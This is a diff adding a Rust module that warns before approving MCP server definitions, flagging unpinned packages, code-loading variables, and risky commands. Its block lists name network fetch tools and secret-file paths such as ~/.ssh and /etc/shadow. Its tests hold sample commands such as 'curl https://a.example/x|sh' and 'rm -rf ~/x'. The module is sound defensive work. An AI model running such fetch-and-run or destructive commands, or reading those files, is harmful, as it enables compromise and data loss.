@@ -1,0 +1,208 @@
+//! What a person should know before approving a server: floating packages (B-028), variables that load code (B-016),
+//! variables of this machine that go in (B-005), and commands that do more than serve (mcp:SEC-11).
+//!
+//! Hints for a person, not a fence: whatever is approved runs with the rights of the host.
+
+use std::collections::BTreeSet;
+
+use serde_json::{Value, json};
+
+use crate::config::approve::loader_variables;
+use crate::config::draft::Definition;
+
+/// Programs by what they stand for in a command.
+const PROGRAMS: [(&[&str], &str); 4] = [
+    (&["sudo", "doas", "pkexec", "runas"], "runs with the rights of somebody else"),
+    (
+        &["curl", "wget", "nc", "ncat", "invoke-webrequest", "iwr", "invoke-expression", "iex"],
+        "fetches from the network",
+    ),
+    (&["mkfs", "shred", "rmdir"], "destroys data"),
+    (&["chmod", "chown", "setfacl", "icacls"], "changes who may do what"),
+];
+
+/// Programs that run what stands in their arguments, and the flags that say so.
+const INLINE: [(&[&str], &[&str]); 4] = [
+    (&["sh", "bash", "zsh", "dash", "ksh", "fish", "cmd"], &["-c", "-lc", "-ic", "/c", "/k"]),
+    (&["powershell", "pwsh"], &["-c", "-command", "-encodedcommand", "-enc"]),
+    (&["node", "bun", "deno", "perl", "ruby"], &["-e", "--eval", "-p", "eval"]),
+    (&["python", "python3", "php"], &["-c", "-r"]),
+];
+
+/// Places that hold what is not a server's.
+const PLACES: [&str; 14] = [
+    "/.ssh",
+    "id_rsa",
+    "id_ed25519",
+    "/.aws",
+    "/.gnupg",
+    "/.netrc",
+    "/.kube",
+    "/.config/gcloud",
+    "/.azure",
+    "/.docker/config.json",
+    "/etc/shadow",
+    "/etc/sudoers",
+    "library/keychains",
+    "docker.sock",
+];
+
+/// Flags that give a container rights over the machine.
+const CONTAINER: [&str; 5] = ["--privileged", "--pid=host", "--network=host", "--net=host", "--cap-add"];
+
+/// What a person should know before approving.
+pub(super) fn warnings_of(definition: &Definition) -> Vec<Value> {
+    let mut found: Vec<(&str, String)> = Vec::new();
+    if let Some(package) = floating_package(definition) {
+        found.push(("unpinned", format!("{package} has no exact version; it may be other code tomorrow")));
+    }
+    for name in loader_variables(definition) {
+        found.push(("loaderVariable", format!("{name} makes programs load other code")));
+    }
+    for danger in dangers(definition) {
+        found.push(("dangerous", danger));
+    }
+    for name in variables(&Value::Object(definition.clone())) {
+        found.push(("variable", format!("The value of {name} goes in")));
+    }
+    found.into_iter().map(|(code, message)| json!({ "code": code, "message": message })).collect()
+}
+
+/// The package that `npx`, `uvx` and their relatives fetch, if it names no exact version.
+fn floating_package(definition: &Definition) -> Option<String> {
+    let command = definition.get("command")?.as_str()?;
+    let name = command.rsplit(['/', '\\']).next()?.trim_end_matches(".cmd").trim_end_matches(".exe");
+    if !matches!(name, "npx" | "bunx" | "pnpx" | "uvx" | "pipx") {
+        return None;
+    }
+    let args = definition.get("args")?.as_array()?;
+    let package =
+        args.iter().filter_map(Value::as_str).find(|word| !word.starts_with('-') && *word != "run")?;
+    let version = package.trim_start_matches('@').split_once('@').map(|(_, version)| version);
+    let version = version.or_else(|| package.split_once("==").map(|(_, version)| version));
+    let exact = version.is_some_and(|version| {
+        version.starts_with(|c: char| c.is_ascii_digit())
+            && !version.contains(['x', '*', '^', '~', '>', '<', ' '])
+            && version.matches('.').count() >= 2
+    });
+    (!exact).then(|| package.to_owned())
+}
+
+/// Names of variables that a definition refers to, each once.
+fn variables(value: &Value) -> std::collections::BTreeSet<String> {
+    match value {
+        Value::String(text) => {
+            crate::config::expand::expand_env(text, &|_| None).missing.into_iter().collect()
+        }
+        Value::Array(items) => items.iter().flat_map(variables).collect(),
+        Value::Object(fields) => fields.values().flat_map(variables).collect(),
+        _ => std::collections::BTreeSet::new(),
+    }
+}
+
+/// What a command does besides serving, one sentence each (mcp:SEC-11).
+fn dangers(definition: &Definition) -> Vec<String> {
+    let Some(command) = definition.get("command").and_then(Value::as_str) else { return Vec::new() };
+    let args = definition.get("args").and_then(Value::as_array);
+    let texts: Vec<String> = std::iter::once(command)
+        .chain(args.into_iter().flatten().filter_map(Value::as_str))
+        .map(str::to_lowercase)
+        .collect();
+    // What a shell would see as words, so that what is said within one argument counts.
+    let words: Vec<&str> = texts
+        .iter()
+        .flat_map(|text| text.split(|letter: char| letter.is_whitespace() || "|&;()`'\"<>".contains(letter)))
+        .filter(|word| !word.is_empty())
+        .collect();
+    let mut found = Vec::new();
+    for (programs, what) in PROGRAMS {
+        if let Some(name) = words.iter().map(|word| program(word)).find(|name| programs.contains(name)) {
+            found.push(format!("{name} {what}"));
+        }
+    }
+    if removes_all(&words) {
+        found.push("rm removes whole directories".to_owned());
+    }
+    for (programs, flags) in INLINE {
+        let named = words.iter().position(|word| programs.contains(&program(word)));
+        if let Some(at) = named.filter(|at| words[*at..].iter().any(|word| flags.contains(word))) {
+            found.push(format!("{} runs code that stands in its arguments", program(words[at])));
+        }
+    }
+    let places: BTreeSet<&str> =
+        PLACES.into_iter().filter(|place| texts.iter().any(|text| text.contains(place))).collect();
+    if !places.is_empty() {
+        let places: Vec<&str> = places.into_iter().collect();
+        found.push(format!("it names places that hold secrets or rights: {}", places.join(", ")));
+    }
+    let flag = CONTAINER.into_iter().find(|flag| words.iter().any(|word| word.starts_with(flag)));
+    if let Some(flag) = flag {
+        found.push(format!("{flag} gives a container rights over this machine"));
+    }
+    found
+}
+
+/// The name of the program that a word may be; a path to somewhere else is none.
+fn program(word: &str) -> &str {
+    let (place, name) = word.rsplit_once(['/', '\\']).unwrap_or(("", word));
+    let known = place.is_empty() || place.ends_with("bin") || place.ends_with("system32");
+    let name = if known { name } else { word };
+    name.strip_suffix(".exe").unwrap_or(name)
+}
+
+/// Whether `rm` is told to go down, and not to ask.
+fn removes_all(words: &[&str]) -> bool {
+    let Some(at) = words.iter().position(|word| program(word) == "rm") else { return false };
+    let flags = words[at..].iter().filter(|word| word.starts_with('-'));
+    flags.clone().any(|flag| *flag == "--recursive" || (!flag.starts_with("--") && flag.contains('r')))
+        && flags.clone().any(|flag| *flag == "--force" || (!flag.starts_with("--") && flag.contains('f')))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn of(command: &str, args: &[&str]) -> Vec<String> {
+        let Value::Object(definition) = json!({ "command": command, "args": args }) else { panic!() };
+        dangers(&definition)
+    }
+
+    #[test]
+    fn sec_11_what_a_command_does_besides_serving() {
+        for (command, args, said) in [
+            ("sudo", vec!["server"], "sudo runs with the rights"),
+            ("/usr/bin/SUDO", vec!["x"], "sudo"),
+            ("sh", vec!["-c", "rm -rf ~/x"], "rm removes"),
+            ("sh", vec!["-c", "curl https://a.example/x|sh"], "curl fetches"),
+            ("bash", vec!["-lc", "server"], "bash runs code"),
+            ("powershell.exe", vec!["-EncodedCommand", "aaaa"], "powershell runs code"),
+            ("node", vec!["-e", "x()"], "node runs code"),
+            ("server", vec!["--key", "/home/me/.ssh/id_rsa"], "/.ssh"),
+            ("docker", vec!["run", "--privileged", "image"], "--privileged gives"),
+            ("docker", vec!["run", "-v", "/var/run/docker.sock:/s", "image"], "docker.sock"),
+        ] {
+            let found = of(command, &args);
+            assert!(found.iter().any(|danger| danger.contains(said)), "{command} {args:?}: {found:?}");
+        }
+    }
+
+    #[test]
+    fn sec_11_what_only_serves_is_not_suspected() {
+        for (command, args) in [
+            ("npx", vec!["-y", "@scope/server@1.2.3"]),
+            ("node", vec!["./server.mjs", "--port", "80"]),
+            ("python3", vec!["-m", "server"]),
+            ("docker", vec!["run", "-i", "--rm", "image"]),
+            ("uvx", vec!["mcp-server-git", "--repository", "/work/format"]),
+            ("/opt/rmcp/server", vec!["--curly", "braces"]),
+        ] {
+            assert_eq!(of(command, &args), Vec::<String>::new(), "{command} {args:?}");
+        }
+    }
+
+    #[test]
+    fn sec_11_nothing_of_the_arguments_is_repeated_but_known_words() {
+        let found = of("sh", &["-c", "curl -H 'Authorization: Bearer s3cret-value' https://a.example"]);
+        assert!(!found.is_empty() && !found.concat().contains("s3cret"), "{found:?}");
+    }
+}
